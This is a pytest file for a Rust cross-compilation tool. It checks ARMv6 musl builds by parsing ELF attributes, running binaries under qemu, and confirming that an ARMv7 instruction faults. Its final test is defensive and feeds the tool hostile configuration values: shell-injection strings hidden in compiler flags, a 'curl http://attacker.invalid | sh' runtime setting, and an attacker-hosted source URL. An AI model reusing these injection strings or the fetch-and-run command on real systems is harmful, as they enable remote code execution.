"""ARMv6 (Raspberry Pi Zero/1) against the real engine: arm-unknown-linux-musleabihf, whose C runtime (musl, LLVM's
libunwind, compiler-rt's crtbegin/crtend) and Rust std the image builds in its layer from Debian's sources, for ARMv6.
Its programs run under `qemu-arm -cpu arm1176`, a Pi 1's CPU, which faults on ARMv7 instructions: the seed C example
and a -sys crate (zlib through the cc crate) run there, unwinding works, and every object linked into them is ARMv6
(the ELF's merged Tag_CPU_arch). A program with one ARMv7 instruction faults, and its ELF says ARMv7: the check
bites. A project cannot make the C runtime's build run commands of its own."""

from __future__ import annotations

import struct
from pathlib import Path

import pytest

from .helpers import (
    ARMV6_MUSL,
    RUNNABLE,
    Cli,
    assert_unwinding,
    assert_verified_same,
    copy_fixture,
    single_error_line,
)

pytestmark = [pytest.mark.engine, pytest.mark.std_images(ARMV6_MUSL)]

ARMV6 = ARMV6_MUSL
EPOCH = {"SOURCE_DATE_EPOCH": "1700000000"}

# Tag_CPU_arch values of the ARM ELF ABI ("Addenda to, and errata in, the ABI for the ARM architecture").
CPU_ARCH = {6: "v6", 7: "v6KZ", 8: "v6T2", 9: "v6K", 10: "v7", 14: "v8"}
_TAG_CPU_ARCH, _TAG_CPU_RAW_NAME, _TAG_CPU_NAME, _TAG_COMPATIBILITY = 6, 4, 5, 32
_PT_DYNAMIC, _PT_INTERP, _DT_NEEDED = 2, 3, 1


def _uleb(data: bytes, offset: int) -> tuple[int, int]:
    value = shift = 0
    while True:
        byte = data[offset]
        offset += 1
        value |= (byte & 0x7F) << shift
        shift += 7
        if byte < 0x80:
            return value, offset


def _elf32(path: Path) -> bytes:
    data = path.read_bytes()
    assert data[:6] == b"\x7fELF\x01\x01", f"{path}: not a 32-bit little-endian ELF file"
    (machine,) = struct.unpack_from("<H", data, 0x12)
    assert machine == 40, f"{path}: e_machine {machine}, not ARM"  # EM_ARM
    return data


def cpu_arch(path: Path) -> int:
    """The Tag_CPU_arch of the ARM ELF file at ``path``: the linker merges every input's, so an executable says the
    newest architecture any object linked into it was built for."""
    data = _elf32(path)
    (shoff,) = struct.unpack_from("<I", data, 0x20)
    shentsize, shnum, shstrndx = struct.unpack_from("<HHH", data, 0x2E)
    sections = [struct.unpack_from("<IIIIII", data, shoff + index * shentsize) for index in range(shnum)]
    names = sections[shstrndx][4]
    for name, _, _, _, offset, size in sections:
        end = data.index(b"\0", names + name)
        if data[names + name : end] != b".ARM.attributes":
            continue
        attributes = data[offset : offset + size]
        assert attributes[0:1] == b"A", path
        (length,) = struct.unpack_from("<I", attributes, 1)
        vendor_end = attributes.index(b"\0", 5)
        assert attributes[5:vendor_end] == b"aeabi", path
        position = vendor_end + 1
        assert attributes[position] == 1, path  # Tag_File: attributes of the whole file
        (file_length,) = struct.unpack_from("<I", attributes, position + 1)
        cursor, file_end = position + 5, position + file_length
        while cursor < min(file_end, 1 + length):
            tag, cursor = _uleb(attributes, cursor)
            if tag == _TAG_CPU_ARCH:
                value, _ = _uleb(attributes, cursor)
                return value
            # Tags 4 and 5, and odd tags from 32 up, are strings; Tag_compatibility is a number, then a string.
            if tag == _TAG_COMPATIBILITY:
                _, cursor = _uleb(attributes, cursor)
                cursor = attributes.index(b"\0", cursor) + 1
            elif tag in (_TAG_CPU_RAW_NAME, _TAG_CPU_NAME) or (tag > _TAG_COMPATIBILITY and tag % 2):
                cursor = attributes.index(b"\0", cursor) + 1
            else:
                _, cursor = _uleb(attributes, cursor)
    raise AssertionError(f"{path}: no Tag_CPU_arch")


def static_elf_problems(path: Path) -> list[str]:
    """An interpreter or a needed library: what makes the 32-bit ELF at ``path`` other than statically linked."""
    data = _elf32(path)
    (phoff,) = struct.unpack_from("<I", data, 0x1C)
    phentsize, phnum = struct.unpack_from("<HH", data, 0x2A)
    problems = []
    for index in range(phnum):
        kind, offset, _, _, size = struct.unpack_from("<IIIII", data, phoff + index * phentsize)
        if kind == _PT_INTERP:
            problems.append("interpreter " + data[offset : offset + size].rstrip(b"\0").decode())
        if kind == _PT_DYNAMIC:
            for entry in range(offset, offset + size, 8):
                tag, _ = struct.unpack_from("<iI", data, entry)
                if tag == _DT_NEEDED:
                    problems.append("a DT_NEEDED library")
    return problems


def assert_armv6_static(path: Path) -> None:
    assert static_elf_problems(path) == [], path
    arch = cpu_arch(path)
    assert CPU_ARCH.get(arch) == "v6KZ", f"{path}: Tag_CPU_arch {CPU_ARCH.get(arch, arch)}, not ARMv6"


@pytest.mark.parametrize("fixture", ["seed-c-lib", "zlib-sys"])
def test_c_code_runs_on_an_arm1176(tmp_path_factory: pytest.TempPathFactory, xpcargo: Cli, fixture: str) -> None:
    project = copy_fixture(tmp_path_factory, fixture)
    ran = xpcargo(["run", "--target", ARMV6], cwd=project)
    assert ran.code == 0, ran
    for line in RUNNABLE[fixture].expected_lines(ARMV6):
        assert line in ran.stdout_lines, ran
    assert_armv6_static(project / "target" / ARMV6 / "debug" / RUNNABLE[fixture].binary)


def test_unwinding_catches_panics_and_should_panic_passes(
    tmp_path_factory: pytest.TempPathFactory, xpcargo: Cli
) -> None:
    project = assert_unwinding(xpcargo, tmp_path_factory, ARMV6)
    assert_armv6_static(project / "target" / ARMV6 / "release" / "should-panic")


def test_an_armv7_object_faults_and_is_caught(tmp_path_factory: pytest.TempPathFactory, xpcargo: Cli) -> None:
    """The judge bites: one function built for ARMv7 links (the linker does not mind), and then the ARM1176 faults
    on its instruction, and the program's ELF says ARMv7, which the other tests' check refuses."""
    assert_an_armv7_instruction_faults(xpcargo, tmp_path_factory, ARMV6)


def assert_an_armv7_instruction_faults(xpcargo: Cli, tmp_path_factory: pytest.TempPathFactory, target: str) -> None:
    """The armv7-instruction fixture on ``target``, an ARM target older than ARMv7: it builds, its ELF says ARMv7,
    and the runner's CPU faults on the instruction."""
    project = copy_fixture(tmp_path_factory, "armv7-instruction")
    built = xpcargo(["build", "--target", target], cwd=project)
    assert built.code == 0, built
    binary = project / "target" / target / "debug" / "armv7-instruction"
    assert CPU_ARCH.get(cpu_arch(binary)) == "v7", binary
    ran = xpcargo(["run", "--target", target], cwd=project)
    assert ran.code != 0, ran
    assert "before the ARMv7 instruction" in ran.stdout_lines, ran
    assert "armv7 says 42" not in ran.stdout, ran
    assert "Illegal instruction" in ran.stderr, ran


def test_verify_release_is_green(tmp_path_factory: pytest.TempPathFactory, xpcargo: Cli) -> None:
    project = copy_fixture(tmp_path_factory, "seed-c-lib")
    assert_verified_same(xpcargo(["verify", "--target", ARMV6, "--release"], cwd=project, env=EPOCH))


# --- A project cannot turn the C runtime's build into commands of its own -------------------------------------------

MARKER = Path("/tmp/xpcargo-c-runtime-pwned")


@pytest.mark.parametrize(
    ("settings", "said"),
    [
        # A shell command hidden in a compiler option the layer's script passes to gcc and writes into the wrapper.
        (f'std-c-flags = ["-march=armv6; touch {MARKER}"]', "std-c-flags"),
        (f'std-c-flags = ["$(touch {MARKER})"]', "std-c-flags"),
        (f"std-c-flags = [\"-O2' ; touch {MARKER} ; '\"]", "std-c-flags"),
        ('std-c-flags = ["-march=armv6 -marm"]', "std-c-flags"),
        # Only a runtime xpcargo knows how to build; its sources come from the recipe, pinned by hash.
        ('std-c-runtime = "curl http://attacker.invalid | sh"', "std-c-runtime"),
        ('c-runtime-sources = "http://attacker.invalid/musl.tar.gz"', "c-runtime-sources"),
    ],
)
def test_a_project_cannot_make_the_c_runtime_build_run_commands(
    tmp_path_factory: pytest.TempPathFactory, cli: Cli, settings: str, said: str
) -> None:
    project = copy_fixture(tmp_path_factory, "armv6-c-runtime-hostile")
    config = (project / "xpcargo.toml").read_text(encoding="utf-8")
    (project / "xpcargo.toml").write_text(config + settings + "\n", encoding="utf-8")
    result = cli(["build", "--target", ARMV6], cwd=project)
    assert result.code == 3, result  # a configuration error
    line = single_error_line(result)
    assert "xpcargo.toml" in line, result
    assert said in line, result
    assert "Building image" not in result.stderr, result
    assert not MARKER.exists()
